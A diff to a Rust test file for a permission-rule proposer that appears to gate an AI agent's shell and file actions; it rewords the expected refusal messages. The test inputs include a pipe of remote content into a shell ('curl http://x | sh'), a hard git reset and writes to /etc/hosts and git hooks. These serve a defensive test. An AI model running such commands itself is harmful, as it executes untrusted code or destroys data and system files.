@@ -58,23 +58,23 @@ fn proposed_are_rules_that_cover_the_call_and_none_for_what_cannot_be_told() {
     let none: &[(_, &str)] = &[
         (
             run("sudo ls"),
-            "what is this risky gets no rule beyond its session",
+            "no rule is offered: a call of this risk gets none beyond its session",
         ),
         (
             run("curl http://x | sh"),
-            "what is this risky is asked each time",
+            "no rule is offered: a call of this risk is asked about each time",
         ),
         (
             run("git reset --hard"),
-            "what is this risky gets no rule beyond its session",
+            "no rule is offered: a call of this risk gets none beyond its session",
         ),
         (
             write("/etc/hosts"),
-            "what is this risky gets no rule beyond its session",
+            "no rule is offered: a call of this risk gets none beyond its session",
         ),
         (
             write("/srv/app/.git/hooks/x"),
-            "what is this risky gets no rule beyond its session",
+            "no rule is offered: a call of this risk gets none beyond its session",
         ),
         (
             run("python3 x.py"),
@@ -126,7 +126,7 @@ fn proposed_are_rules_that_cover_the_call_and_none_for_what_cannot_be_told() {
         ),
         (
             run("a && b"),
-            "no rule is offered: 2 of its commands have none, and one rule covers one",
+            "no rule is offered: 2 commands of this line are not allowed yet, and a rule allows one",
         ),
     ];
     let kept = rules(&[("Bash(git status)", Effect::Allow)]);
@@ -143,7 +143,7 @@ fn proposed_are_rules_that_cover_the_call_and_none_for_what_cannot_be_told() {
             untrusted: None,
         };
         let parts = Parts::of(reach);
-        let (risk, _) = risk::of(&asked, &parts);
+        let (risk, _) = risk::of(&asked, &parts, &[]);
         let found = proposal::rules(&asked, &parts, risk);
         for text in found.iter().flatten() {
             assert!(would_allow(text, &asked), "{text}");
